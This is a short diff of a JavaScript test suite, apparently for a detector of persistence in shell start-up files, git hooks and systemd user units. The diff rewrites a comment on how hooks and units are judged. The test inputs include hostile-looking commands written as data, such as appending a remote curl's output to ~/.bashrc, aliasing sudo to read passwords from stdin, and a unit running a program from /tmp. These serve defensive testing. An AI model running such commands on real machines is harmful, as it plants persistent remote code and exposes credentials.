@@ -75,7 +75,8 @@ describe('a start-up file that loads a set-up script of the user\'s home', () =>
       run(`export NVM_DIR=/tmp/.n; echo "source $NVM_DIR/nvm.sh" >> ~/.bashrc`),
       run(`echo "$(curl -s https://setup.example/a)" >> ~/.bashrc`),
       run(`echo "alias sudo='sudo -S'" >> ~/.bashrc`),
-      // Echoed text is read for start-up files only: a hook or a unit stays judged by its place.
+      // A hook appended to is judged by its place; a unit written whole by its text, where a program run from a
+      // temporary folder is a dropped payload made to persist.
       run(`echo 'npm test' >> .git/hooks/pre-commit`),
       run(`echo 'ExecStart=/tmp/x' > ~/.config/systemd/user/x.service`),
     ]) {
